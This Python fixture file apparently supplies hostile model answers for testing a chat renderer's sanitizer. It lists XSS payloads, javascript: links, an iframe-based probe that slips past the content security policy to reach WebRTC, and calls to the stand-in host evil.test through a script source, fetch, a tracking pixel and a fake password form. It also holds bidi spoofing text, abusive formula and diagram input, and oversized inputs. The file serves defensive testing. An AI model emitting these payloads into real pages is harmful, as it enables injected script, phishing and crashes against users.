"""What somebody hostile could have a model say: answers that want to run, to load, to hide or to flood.

Small ones are written out, large ones are made here. Each that would run says so: `window.harmed = true`.
"""

from __future__ import annotations

from collections.abc import Mapping

RUN = "window.harmed=true"
ELSEWHERE = "https://evil.test"

CALLS = """<p id=w>Drawn</p>
<iframe srcdoc="<script>top.postMessage(['parsed', typeof RTCPeerConnection], '*')</script>">
</iframe><script>
const told = (way) => `top.postMessage(['${way}', typeof RTCPeerConnection], '*')`;
const page = (way) => `<script>${told(way)}<${''}/script>`;
const frame = () => document.createElement('ifr' + 'ame');
const tag = (way) => '<ifr' + 'ame srcdoc="' + page(way) + '"></ifr' + 'ame>';
const ways = {
  made: () => Object.assign(frame(), {srcdoc: page('made')}),
  script: () => Object.assign(frame(), {src: 'javascript:' + told('script')}),
  markup: () => Object.assign(document.createElement('div'), {innerHTML: tag('markup')}),
  range: () => document.createRange().createContextualFragment(tag('range')),
  xml: () => document.importNode(new DOMParser().parseFromString(
    '<h:ifr' + 'ame xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + page('xml').replaceAll('<', '&lt;') + '"/>',
    'text/xml').documentElement, true),
  sheet: () => {
    const sheet = new XSLTProcessor();
    sheet.importStylesheet(new DOMParser().parseFromString(
      '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
      + '<x:element name="ifr' + 'ame"><x:attribute name="srcdoc">' + page('sheet').replaceAll('<', '&lt;')
      + '</x:attribute></x:element></x:template></x:stylesheet>', 'text/xml'));
    return sheet.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document);
  },
};
for (const way of Object.values(ways)) try { w.append(way()) } catch {}
document.write('<ifr');
document.write('ame srcdoc="' + page('written') + '"></ifr' + 'ame><b>on</b>');
top.postMessage(['own', typeof RTCPeerConnection], '*');
setTimeout(() => top.postMessage(['last', typeof RTCPeerConnection], '*'), 500);
</script>"""
"""Ways to what calls other browsers, which no content security policy governs; each tells whether it got there."""

MARKUP: Mapping[str, str] = {
    "script": f"<script>{RUN}</script> text <scr<script>ipt>{RUN}</scr</script>ipt> "
    f"<script src={ELSEWHERE}/x.js></script>",
    "handlers": f"<img src=x onerror={RUN}> <p onclick={RUN} onmouseover={RUN}>words</p> <body onload={RUN}>",
    "svg": f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text y=20>x</text></a>"
    f"<style>@import '{ELSEWHERE}/x.css';</style>"
    f"<foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "links": f"[one](javascript:{RUN}) [two](JaVaScRiPt:{RUN}) [three](&#106;avascript&#58;{RUN}) "
    f"[four](data:text/html,<script>{RUN}</script>) <javascript:{RUN}> <a href='java\nscript:{RUN}'>five</a> "
    f"[six][r]\n\n[r]: javascript:{RUN}",
    "frames": f"<iframe src={ELSEWHERE}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>"
    f"<object data={ELSEWHERE}/x></object><embed src={ELSEWHERE}/y><video src={ELSEWHERE}/v onerror={RUN}></video>",
    "pictures": f"![alt]({ELSEWHERE}/pixel.png?who=me) "
    f"<img srcset='{ELSEWHERE}/a.png 1x'> "
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYXJtZWQ9dHJ1ZSIvPg==) "
    "![own](/parlance/v1/accounts.sign_out)",
    "styles": "<style>body{display:none}</style>"
    f"<p style='position:fixed;inset:0;background:url({ELSEWHERE}/b)'>x</p><link rel=stylesheet href={ELSEWHERE}/x.css>"
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}>",
    "forms": f"<form action={ELSEWHERE}><input name=password autofocus onfocus={RUN}>"
    f"<button formaction=javascript:{RUN}>Sign in</button></form><dialog open>Your session has ended</dialog>",
    "names": "<a id=composer name=location>x</a><form id=document><img name=getElementById></form>"
    "<p id=page class=skip>y</p>",
    "preview": f"```html\n<script>{RUN};parent.harmed=true;fetch('{ELSEWHERE}')</script><img src={ELSEWHERE}/p>\n"
    f"{CALLS}\n```",
}
"""Markup of all kinds."""

TEXT: Mapping[str, str] = {
    "turning": "safe \u202etxt.exe\u202c on\n\n\u202e\u202d\u2066\u2067 never closed\n\n"
    "```js\nif (a\u202e \u2066// b\u2069 \u2066) {}\n```\n\n"
    "[bank.test\u202e](https://evil.test) مرحبا\n\n- عنصر\n- item",
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 800,
    "controls": "\u0001\u0007\u0008\u001b[31m red \u007f \u0085 \u2028 \u2029 a\u200bb\ufeffc",
    "formulas": "$$\n\\frac{1}{2\n\n$\\notacommand{x}$ $\\def\\a{\\a\\a}\\a$ $\\href{javascript:alert(1)}{x}$ "
    "$\\rule{99999em}{99999em}$ $\\hspace{-99999em}x$\n\n$$\n" + "\\sqrt{" * 400 + "x" + "}" * 400 + "\n$$",
    "formulas expanding": "$$\n\\def\\a#1{#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}\n$$\n\n$"
    + "x+" * 4_000
    + "$\n\n$$\n"
    + "{" * 2_000
    + "\n$$",
    "diagram wrong": "```mermaid\nthis is no diagram\n```\n\n```mermaid\ngraph TD\nA-->\n```",
    "diagram sly": "```mermaid\n"
    f"%%{{init: {{'securityLevel':'loose','themeCSS':'*{{background:url({ELSEWHERE})}}'}}}}%%\n"
    f'graph TD\nA["<img src=x onerror={RUN}>"]-->B\nclick A "javascript:{RUN}"\n```',
    "diagram huge": "```mermaid\ngraph TD\n" + "A-->B\n" * 5_000 + "```",
}
"""Text that turns about, hides, or is none of what it says it is."""

SIZES: Mapping[str, str] = {
    "megabyte": "a" * 1_000_000,
    "megabyte of code": "```\n" + "b" * 1_000_000 + "\n```",
    "megabyte of a link": "[x](https://ok.test/" + "c" * 500_000 + ")",
    "table wide": "|" + " a |" * 1_500 + "\n|" + " - |" * 1_500 + "\n" + ("|" + " x |" * 1_500 + "\n") * 3,
    "table long": "| a | b |\n|---|---|\n" + "| x | yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy |\n" * 2_900,
    "table huge": "|" + " a |" * 200 + "\n|" + " - |" * 200 + "\n" + ("|" + " x |" * 200 + "\n") * 1_000,
    "lists": "\n".join("  " * depth + "- x" for depth in range(400)) + "\n\n" + "- " * 3_000 + "x",
    "quotes": ">" * 4_000 + " x\n\n" + "\n".join(">" * depth + " x" for depth in range(1, 250)),
    "brackets": "[" * 30_000 + "\n\n" + "![" * 10_000 + "\n\n" + "[a](" * 10_000,
    "stars": "*a **a ***a _a __a ~~a " * 2_000,
    "tags": "<div>" * 10_000 + "\n\n" + "<a " * 10_000 + "\n\n" + "<b><i><u>" * 300,
    "words": "Donaudampfschifffahrt" * 400 + "\n\n# " + "H" * 3_000 + "\n\n`" + "i" * 3_000 + "`\n\n- " + "l" * 3_000,
}
"""Too much of something."""
